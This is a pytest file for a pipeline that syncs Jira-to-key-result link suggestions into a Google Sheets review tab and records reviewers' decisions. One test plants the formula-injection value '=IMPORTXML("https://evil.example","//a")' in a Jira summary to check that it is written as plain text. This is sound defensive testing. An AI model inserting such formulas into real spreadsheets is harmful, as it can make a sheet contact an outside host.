"""Deciding about links in a tab: what people type arrives once, wherever its row has gone."""

from __future__ import annotations

import json
import os
from typing import Any
from unittest import mock

import duckdb
import pytest
from typer.testing import CliRunner

from pipelines.cli.app import app
from pipelines.review.state import review_findings
from pipelines.run_status.source_status import problem_findings
from published.errors import UserError
from sandbox.server.google.service_account import EMAIL
from sandbox.server.google.sheets.store import Cell
from tests.support.company import Company
from tests.support.review_desk import Desk


def okr(company: Company, *words: str) -> Any:
    """What the command answers as JSON, run in this process with credentials at hand."""
    environ = {**company.environment, "OKR_CONFIG": str(company.settings)}
    done = CliRunner().invoke(app, [*words, "--json"], env=environ)
    if isinstance(done.exception, UserError):
        return str(done.exception)
    return json.loads(done.stdout)


ABOUT_THE_TAB = ("review tab out of order", "review tab not reached")
BY = ("--by", "Grace Okafor", "--why", "looked into it")


def recorded(desk: Desk) -> list[tuple[str, ...]]:
    log = desk.log.sort_values(["initiative", "key_result_id"])
    columns = ["action", "initiative", "key_result_id", "decided_by", "via"]
    return [tuple(row) for row in log[columns].to_numpy().tolist()]


def findings(desk: Desk) -> dict[str, str]:
    """What would be published, by subject."""
    frame = problem_findings(desk.project)
    ours = frame[frame["rule"].isin(("decision not recorded", *ABOUT_THE_TAB))]
    return dict(zip(ours["subject_id"], ours["sentence"], strict=True))


def test_what_is_decided_in_the_tab_counts_that_very_night(fresh: Company) -> None:
    desk = Desk(fresh)
    formula = '=IMPORTXML("https://evil.example","//a")'
    fresh.box.jira.edit_issue("SUP-6", summary=formula)
    first = fresh.night()
    assert (first.exit_code, first.review and first.review.asked) == (0, 9)
    shown = desk.row("SUP-6")
    assert shown["Initiative"] == f"SUP-6: {formula}"
    assert not any(cell.formula for cell in desk.sheet.cells.values())
    links = {cell.link for cell in desk.sheet.cells.values() if cell.link}
    assert f"{fresh.box.jira_url}/browse/SUP-6" in links
    assert desk.sheet.hidden_columns == {13}
    (place, rule), *_ = desk.sheet.validations
    assert (place.first_row, place.first_column) == (1, 7)
    assert rule["strict"] is True
    offered = next(rule for place, rule in desk.sheet.validations if place.first_column == 8)
    words = [one["userEnteredValue"] for one in offered["condition"]["values"]]  # type: ignore[index]
    assert next(word for word in words if word.startswith("KR-18: Reach a customer satisfaction"))
    assert not offered["strict"]

    desk.decide(desk.row("SUP-6"), "correct", "KR-18")
    desk.decide(desk.row("SUP-3", "KR-18"), "Reject ")
    desk.decide(desk.row("SAL-2", "KR-99"), "correct", "kr-25: Qualified pipeline")
    second = fresh.night()
    assert second.exit_code == 0
    assert second.review is not None
    assert (second.review.recorded, second.review.changed, second.review.problems) == (3, True, [])
    claims = fresh.table("links").set_index(["initiative", "key_result_id"])
    assert claims.loc[("SUP-6", "KR-18"), ["state", "rule", "decided_by"]].tolist() == [
        "active",
        "decision",
        "Mei Lin Tan",
    ]
    assert claims.loc[("SUP-3", "KR-18"), "state"] == "rejected"
    assert claims.loc[("SAL-2", "KR-25"), "state"] == "active"
    assert recorded(desk) == [
        ("correct", "SAL-2", "KR-25", "Mei Lin Tan", "review tab"),
        ("reject", "SUP-3", "KR-18", "Mei Lin Tan", "review tab"),
        ("accept", "SUP-6", "KR-18", "Mei Lin Tan", "review tab"),
    ]
    left = {row["Initiative"].split(":")[0] for row in desk.rows()}
    assert not left & {"SUP-6", "SUP-3", "SAL-2"}

    assert second.run_id is not None
    desk.night(second.run_id)  # reads what was written itself, and finds it as it should be
    fresh.box.requests.clear()
    version = desk.drive.files[desk.id].version
    quiet = fresh.night()
    assert quiet.unchanged is not None
    assert desk.drive.files[desk.id].version == version
    google = [seen.path for seen in fresh.box.requests if seen.service == "google"]
    assert google.count("/token") == 2
    assert sorted(set(google)) == ["/drive/v3/files", f"/drive/v3/files/{desk.id}", "/token"]


def test_rows_and_columns_may_be_sorted_inserted_and_moved(desk: Desk) -> None:
    desk.decide(desk.row("SUP-6"), "accept")
    desk.decide(desk.row("SUP-3", "KR-18"), "reject")
    desk.drive.sort_rows(desk.id, "Link review", 4)
    count = len(desk.rows()) + 1
    desk.drive.reorder_rows(desk.id, "Link review", [0, None, *range(count - 1, 0, -1)])
    desk.drive.set_cell(desk.id, "'Link review'!B2", "A remark of our own")
    desk.drive.move_column(desk.id, "Link review", 13, 0)
    desk.drive.move_column(desk.id, "Link review", 9, 2)
    desk.drive.rename_tab(desk.id, "Link review", "Our review")
    before = len(desk.rows())
    assert desk.night().recorded == 2
    assert [row[:3] for row in recorded(desk)] == [
        ("reject", "SUP-3", "KR-18"),
        ("accept", "SUP-6", "KR-17"),
    ]
    assert len(desk.rows()) == before - 2
    assert "A remark of our own" in [value for row in desk.rows() for value in row.values()]
    assert len(desk.drive.files[desk.id].sheets) == 2


def test_a_decision_typed_after_the_night_has_read_is_kept_for_the_next(desk: Desk) -> None:
    desk.decide(desk.row("SUP-6"), "accept")
    assert desk.take().recorded == 1
    late = desk.row("SUP-3", "KR-18")
    desk.decide(late, "reject")
    desk.drive.sort_rows(desk.id, "Link review", 1)
    assert desk.bring().changed
    kept = desk.row("SUP-3", "KR-18")
    assert {**kept, "place": 0} == {
        **late,
        "Decision": "reject",
        "Who": "Mei Lin Tan",
        "Why": "she knows",
        "place": 0,
    }
    assert desk.night().recorded == 1
    assert [row[0] for row in recorded(desk)] == ["reject", "accept"]


def test_a_night_that_is_killed_after_recording_never_records_twice(desk: Desk) -> None:
    desk.decide(desk.row("SUP-6"), "accept")
    assert desk.take().recorded == 1  # and then it is killed: the row is still there
    (desk.company.folder / "data" / "lake" / "links-review.attempt.json").unlink()
    assert desk.take().recorded == 0
    assert len(desk.log) == 1
    desk.bring()
    assert not [row for row in desk.rows() if str(row["Initiative"]).startswith("SUP-6")]


def test_who_thinks_again_before_the_row_is_gone_has_decided_anew(desk: Desk) -> None:
    row = desk.row("SUP-6")
    for decision in ("accept", "reject", "accept", "accept"):
        desk.decide(row, decision)
        desk.take()
    assert desk.log.sort_values("decided_at")["action"].tolist() == ["accept", "reject", "accept"]
    desk.bring()
    assert "accepted" in okr(desk.company, "links", "accept", "SUP-6", "KR-17", *BY)


WRONG: list[tuple[dict[str, str | None], str, str]] = [
    ({"decision": "maybe"}, "H", "“maybe” is not a decision. Choose one of accept, reject"),
    ({"who": None}, "K", "“Who” is empty"),
    ({"why": " "}, "J", "“Why” is empty"),
    ({"decision": "correct"}, "I", "needs the right Key Result"),
    ({"decision": "correct", "correct": "KR-77"}, "I", "no Key Result “KR-77”"),
    ({"decision": "correct", "correct": "KR-17"}, "I", "choose accept"),
    ({"correct": "KR-18"}, "I", "only for correct"),
    ({"token": "#jira:10006|KR-18|e3b0c44298|0000000000"}, "H", "no longer shows"),
    ({"token": "nonsense"}, "H", "does not say what this row is about"),
    ({"token": None}, "H", "does not say what this row is about"),
    ({"suggested": "KR-18: something else"}, "H", "no longer shows"),
]


def test_what_cannot_be_recorded_is_told_by_its_cell_and_stays(desk: Desk) -> None:
    row = desk.row("SUP-6")
    whole = {"suggested": row["Asked about"], "token": row["Row, leave as it is"]}
    for typed, column, why in WRONG:
        desk.decide(row, "accept")
        desk.type(row, **(whole | typed))
        assert desk.take().recorded == 0
        ((address, sentence),) = findings(desk).items()
        assert address == f"'Link review'!{column}{row['place']}"
        assert why in sentence
    assert len(desk.log) == 0
    before = desk.rows()[row["place"] - 2]
    desk.bring("next")
    there = desk.rows()[row["place"] - 2]
    assert there.pop("Result").startswith("This row no longer shows what okr-sync wrote")
    assert there == {name: value for name, value in before.items() if name != "Result"}
    version = desk.drive.files[desk.id].version
    assert not desk.night("next").changed  # told once, not every night
    assert desk.drive.files[desk.id].version == version


def test_a_row_there_twice_decides_nothing_until_one_is_left(desk: Desk) -> None:
    row = desk.row("SUP-6")
    last = len(desk.rows()) + 1
    for (place, column), cell in list(desk.sheet.cells.items()):
        if place == row["place"] - 1:
            desk.sheet.cells[last, column] = cell
    desk.drive.touch(desk.drive.files[desk.id])
    desk.decide(row, "accept")
    assert desk.night().recorded == 0
    assert "occurs 2 times" in " ".join(findings(desk).values())
    assert len([r for r in desk.rows() if str(r["Initiative"]).startswith("SUP-6")]) == 1
    assert desk.night().recorded == 1  # the empty copy was ours to remove
    assert findings(desk) == {}


@pytest.mark.matrix
def test_two_rows_that_contradict_each_other_decide_nothing(fresh: Company) -> None:
    desk = Desk(fresh)
    fresh.box.jira.edit_issue("SAL-2", summary="Criteria for the qualified pipeline")
    fresh.night()
    desk.decide(desk.row("SAL-2", "KR-25"), "reject")
    desk.decide(desk.row("SAL-2", "KR-99"), "correct", "KR-25")
    desk.decide(desk.row("SUP-3", "KR-18"), "accept")
    assert desk.take().recorded == 1
    assert sorted("the opposite" in sentence for sentence in findings(desk).values()) == [True] * 2


def test_what_a_command_has_decided_meanwhile_is_not_overturned(desk: Desk) -> None:
    okr(desk.company, "links", "reject", "SUP-6", "KR-17", *BY)
    okr(desk.company, "links", "reject", "SUP-3", "KR-18", *BY)
    desk.decide(desk.row("SUP-6"), "accept")
    desk.decide(desk.row("SUP-3", "KR-18"), "reject")
    assert desk.night().recorded == 0
    opposite, same = findings(desk).values()
    assert "Grace Okafor (reject by command" in opposite
    assert "Grace Okafor rejected KR-18 for it already on" in same
    assert desk.row("SUP-6", "KR-17")["Decision"] == "accept"
    assert desk.row("SUP-3", "KR-18")["Who"] == "Mei Lin Tan"
    desk.type(desk.row("SUP-3", "KR-18"), who="grace  okafor")
    said = desk.night()
    assert (said.recorded, len(said.remarks), len(findings(desk))) == (0, 1, 1)
    assert "Grace Okafor rejected KR-18 for it already on" in said.remarks[0]
    assert not [row for row in desk.rows() if row["Initiative"].startswith("SUP-3")]
    desk.type(desk.row("SUP-6", "KR-17"), decision=None, why=None)
    assert desk.night().remarks == []
    assert desk.row("SUP-6")["Asked about"].startswith(("KR-16", "KR-18"))


def test_what_is_taken_back_by_command_is_asked_again_and_can_be_decided_again(desk: Desk) -> None:
    desk.decide(desk.row("SUP-6"), "accept")
    desk.night()
    (decision,) = desk.log["decision_id"]
    okr(desk.company, "links", "undo", decision, *BY)
    desk.night("next")
    again = desk.row("SUP-6", "KR-17")
    desk.decide(again, "accept")
    assert desk.night().recorded == 1
    assert desk.log["action"].value_counts().to_dict() == {"accept": 2, "undo": 1}
    assert desk.log["decision_id"].is_unique


def test_half_an_answer_waits_for_its_other_half(desk: Desk) -> None:
    row = desk.row("SUP-6")
    desk.type(row, why="let me ask the team first")
    before = desk.row("SUP-6")
    desk.night()
    assert desk.row("SUP-6") == before
    assert findings(desk) == {}


def test_a_spreadsheet_shared_for_reading_only_is_read_and_named(desk: Desk) -> None:
    desk.decide(desk.row("SUP-6"), "accept")
    desk.drive.share(desk.id, EMAIL, viewer=True)
    said = desk.night()
    assert (said.recorded, said.unread, said.unwritten) == (1, None, None)
    ((_, sentence),) = findings(desk).items()
    assert f"spreadsheet {desk.id} may only be read" in sentence
    assert f"Share it with {EMAIL} as an editor" in sentence
    desk.drive.share(desk.id, EMAIL)
    assert desk.night().changed
    assert findings(desk) == {}


def test_a_tab_that_cannot_be_reached_stops_nothing_and_is_told(desk: Desk) -> None:
    desk.drive.revoke(desk.id)
    said = desk.night()
    assert said.unread is not None
    assert EMAIL in said.unread
    assert [one.rule for one in review_findings(desk.project)] == ["review tab not reached"]
    desk.drive.share(desk.id, EMAIL)
    desk.decide(desk.row("SUP-6"), "accept")
    assert desk.night().recorded == 1
    assert findings(desk) == {}


def test_a_write_that_is_refused_is_told_the_next_night(desk: Desk) -> None:
    okr(desk.company, "links", "reject", "SUP-6", "KR-17", *BY)
    desk.take()
    desk.drive.share(desk.id, EMAIL, viewer=True)
    said = desk.bring("next")
    assert said.unwritten is not None
    assert f"{EMAIL} as an editor" in said.unwritten
    assert [one.rule for one in review_findings(desk.project)] == ["review tab not reached"]
    desk.drive.share(desk.id, EMAIL)
    desk.night("next")
    assert findings(desk) == {}


def test_a_spoilt_header_or_a_tab_of_something_else_is_left_alone(desk: Desk) -> None:
    desk.drive.set_cell(desk.id, "'Link review'!H1", "Verdict")
    version = desk.drive.files[desk.id].version
    assert desk.night("next").changed is False
    assert "no column, or several, with the header “Decision”" in str(findings(desk))
    assert desk.drive.files[desk.id].version == version
    desk.drive.set_cell(desk.id, "'Link review'!H1", Cell("Decision"))
    desk.decide(desk.row("SUP-6"), "accept")
    assert desk.night("next").recorded == 1
    assert findings(desk) == {}


def test_work_that_only_its_row_identifies_is_not_asked_about_nor_decided(desk: Desk) -> None:
    path = desk.project.paths.duckdb
    with duckdb.connect(str(path)) as connection:
        for table in ("initiatives", "suggestions"):
            connection.execute(
                f"UPDATE okr.{table} SET source = 'sheets', record_id = 'book:1:7', "  # noqa: S608
                "initiative_id = 'sheets:book:1:7' WHERE initiative = 'SUP-6'"
            )
    said = okr(desk.company, "links", "accept", "SUP-6", "KR-17", *BY)
    assert "known only by its row, which another may have tomorrow" in said
    assert "fields: {id: …}" in said
    desk.decide(desk.row("SUP-6"), "accept")
    desk.type(desk.row("SAL-6"), why="nobody knows")
    assert desk.night("next").recorded == 0
    assert "no longer read" in " ".join(findings(desk).values())
    desk.type(desk.row("SUP-6"), decision=None, why=None)
    desk.night("next")
    assert not [row for row in desk.rows() if str(row["Initiative"]).startswith("SUP-6")]
    assert len(desk.log) == 0


def test_the_command_does_at_once_what_the_night_does(desk: Desk) -> None:
    desk.decide(desk.row("SUP-6"), "accept")
    version = desk.drive.files[desk.id].version
    rehearsed = okr(desk.company, "links", "review", "--dry-run")
    assert (rehearsed["recorded"], rehearsed["changed"], len(desk.log)) == (1, True, 0)
    assert rehearsed["decisions"][0]["initiative"] == "SUP-6"
    assert desk.drive.files[desk.id].version == version
    done = okr(desk.company, "links", "review")
    assert (done["recorded"], done["changed"], done["unread"]) == (1, True, None)
    assert [row["via"] for row in okr(desk.company, "links", "decisions")] == ["review tab"]
    with mock.patch.dict(os.environ, desk.company.environment):
        text = desk.company.settings.read_text("utf-8")
        lines = [line for line in text.splitlines() if "review:" not in line]
        desk.company.settings.write_text("\n".join(lines), "utf-8")
    assert "no review tab is configured" in okr(desk.company, "links", "review")
